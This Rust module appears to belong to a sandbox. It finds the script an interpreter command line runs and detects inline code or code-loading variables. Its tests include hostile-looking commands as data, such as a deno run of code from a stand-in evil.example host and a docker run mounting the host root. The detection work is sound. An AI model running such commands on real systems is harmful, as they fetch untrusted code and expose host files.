//! The code that the program of a sandboxed server runs, and code or another program that a command line gives it.

use std::path::Path;

use super::ProgramScript;

/// The knowledge about the code that a command line runs.
#[derive(Debug, PartialEq, Eq)]
pub(super) enum CommandCode<'a> {
    Script(ProgramScript<'a>),
    /// The program's own code, which cannot be inspected.
    Own,
    /// Any code, for the given reason.
    Hidden(String),
}

const LONGEST_SHOWN: usize = 40;

impl<'a> CommandCode<'a> {
    pub(super) fn of(command: &str, args: &'a [String]) -> Self {
        let name = program_name(command);
        let Some([language, options]) = table(include_str!("interpreters.txt"), &name) else {
            return Self::Own;
        };
        if language == "starter" {
            return Self::Hidden(format!("`{name}` starts other programs: name the program itself"));
        }
        let mut rest = args.iter().map(String::as_str).enumerate().peekable();
        let needs_run = options == "run";
        if needs_run && rest.next_if(|(_, arg)| *arg == "run").is_none() {
            return Self::Hidden(format!("`{name}` has to be given `run` and a script"));
        }
        let is_harmless = |arg: &str| !needs_run && options.split_whitespace().any(|option| option == arg);
        while rest.next_if(|(_, arg)| is_harmless(arg)).is_some() {}
        match rest.next() {
            Some((argument, path)) if !path.is_empty() && !path.starts_with('-') && !path.contains("://") => {
                Self::Script(ProgramScript { path: Path::new(path), language, argument })
            }
            Some((_, other)) => {
                let shown: String = other.chars().take(LONGEST_SHOWN).collect();
                Self::Hidden(format!("`{name}` has to be given a script first, not `{shown}`"))
            }
            None => Self::Hidden(format!("`{name}` has to be given a script")),
        }
    }
}

/// Returns the name without its directory, its version and `.exe`, in small letters.
fn program_name(command: &str) -> String {
    let name = command.rsplit(['/', '\\']).next().unwrap_or(command).to_ascii_lowercase();
    let name = name.strip_suffix(".exe").unwrap_or(&name);
    name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.' || c == '-').to_owned()
}

/// Returns what a table says about a program: the parts of the line that begins with its name, among others.
pub(crate) fn table<const N: usize>(table: &'static str, name: &str) -> Option<[&'static str; N]> {
    let lines = table.lines().filter(|line| !line.starts_with('#'));
    let mut rows = lines.filter_map(|line| line.split_once(':'));
    let (_, row) = rows.find(|(names, _)| names.split(' ').any(|known| known == name))?;
    row.split(':').map(str::trim).collect::<Vec<_>>().try_into().ok()
}

/// Returns whether a variable, by its name or prefix, makes programs load code that is not inspected.
pub(crate) fn loads_code(variable: &str) -> bool {
    let variable = variable.to_ascii_uppercase();
    let mut loading = include_str!("loading.txt").lines().filter(|line| !line.starts_with('#'));
    loading.any(|name| match name.strip_suffix('*') {
        Some(begin) => variable.starts_with(begin),
        None => variable == name,
    })
}

/// Code, or another program, that stands on a command line.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) struct InlineCode {
    /// The use that the program makes of it.
    pub(super) what: &'static str,
    /// The text from its begin on, as it was given.
    pub(super) text: String,
}

impl InlineCode {
    /// Returns the code or the program that `command` is given with `args`, if there is any.
    pub(super) fn of(command: &str, args: &[String]) -> Option<Self> {
        let [what, place] = table(include_str!("given_code.txt"), &program_name(command))?;
        let mut words = place.split(' ');
        let (place, words) = (words.next(), words.collect::<Vec<_>>());
        let text = match place {
            Some("behind") => args.iter().enumerate().find_map(|(at, arg)| {
                let option = words.iter().find(|option| is_option(arg, option))?;
                let joined = arg.strip_prefix(option).map(|rest| rest.trim_start_matches('='));
                let next = || args.get(at + 1).map(String::as_str);
                let text = joined.filter(|text| !text.is_empty()).or_else(next);
                Some(text.unwrap_or_default().to_owned())
            }),
            Some("first") if args.iter().any(|arg| words.iter().any(|option| is_option(arg, option))) => None,
            Some("first") => args.iter().find(|arg| !arg.starts_with('-')).cloned(),
            _ => {
                let at = args.iter().position(|arg| words.contains(&&**arg))?;
                Some(args.get(at + 1..).unwrap_or_default().join(" "))
            }
        };
        Some(Self { what, text: text? })
    }
}

/// Returns whether the word is the option, with its value or without, or a group of short ones that ends in it.
fn is_option(arg: &str, option: &str) -> bool {
    if arg == option || arg.strip_prefix(option).is_some_and(|rest| rest.starts_with('=')) {
        return true;
    }
    let Some(letter) = option.strip_prefix('-').filter(|rest| rest.len() == 1) else { return false };
    let is_group = |rest: &str| !rest.starts_with('-') && rest.bytes().all(|byte| byte.is_ascii_alphabetic());
    let joined = arg.strip_prefix(option).is_some_and(|rest| !rest.is_empty());
    joined || arg.strip_prefix('-').is_some_and(|rest| is_group(rest) && rest.ends_with(letter))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn code(line: &str) -> String {
        let mut words = line.split(' ').map(str::to_owned);
        let command = words.next().unwrap();
        let args: Vec<_> = words.collect();
        match CommandCode::of(&command, &args) {
            CommandCode::Script(script) => format!("{}: {}", script.language, script.path.display()),
            CommandCode::Own => "own".into(),
            CommandCode::Hidden(_) => "hidden".into(),
        }
    }

    #[test]
    fn the_script_of_an_interpreter_is_found() {
        assert_eq!(code("python scripts/a.py -c x"), "python: scripts/a.py");
        assert_eq!(code("/usr/bin/python3.12 -u -I a.py"), "python: a.py");
        assert_eq!(code("node.exe a.js"), "javascript: a.js");
        assert_eq!(code("deno run a.ts"), "typescript: a.ts");
        assert_eq!(code("Bash a.sh"), "bash: a.sh");
    }

    #[test]
    fn code_that_no_script_holds_is_hidden() {
        for line in [
            "python -c print(1)",
            "python3 -m http.server",
            "python -u -c x a.py",
            "python",
            "python -",
            "node -e x",
            "node --require ./x.js a.js",
            "node --import=data:text/javascript,x a.js",
            "deno run https://evil.example/x.ts",
            "deno run -A a.ts",
            "deno eval x",
            "sh -c x",
            "env python a.py",
            "busybox sh",
            "/usr/bin/sudo node a.js",
        ] {
            assert_eq!(code(line), "hidden", "{line}");
        }
    }

    #[test]
    fn any_other_program_is_its_own_code() {
        assert_eq!(code("/opt/tools/files-server --root /tmp"), "own");
    }

    fn found(line: &[&str]) -> Option<String> {
        let args: Vec<String> = line[1..].iter().map(|&word| word.to_owned()).collect();
        InlineCode::of(line[0], &args).map(|inline| inline.text)
    }

    #[test]
    fn code_on_the_command_line_is_found_in_every_form() {
        for line in [
            &["python3", "-c", "CODE"][..],
            &["/usr/bin/python3.12", "-uc", "CODE"],
            &["python", "-cCODE"],
            &["node", "--eval=CODE"],
            &["sh", "-lc", "CODE"],
            &["perl", "-ne", "CODE"],
            &["awk", "-F:", "CODE", "file"],
            &["deno", "eval", "CODE"],
        ] {
            assert_eq!(found(line).as_deref(), Some("CODE"), "{line:?}");
        }
        assert_eq!(found(&["docker", "run", "-v", "/:/h", "x"]).as_deref(), Some("-v /:/h x"));
    }

    #[test]
    fn a_script_is_no_code_on_the_command_line() {
        for line in
            [&["python3", "a.py"][..], &["awk", "-f", "a.awk"], &["node", "a.js"], &["files", "-c", "x"]]
        {
            assert_eq!(found(line), None, "{line:?}");
        }
    }
}
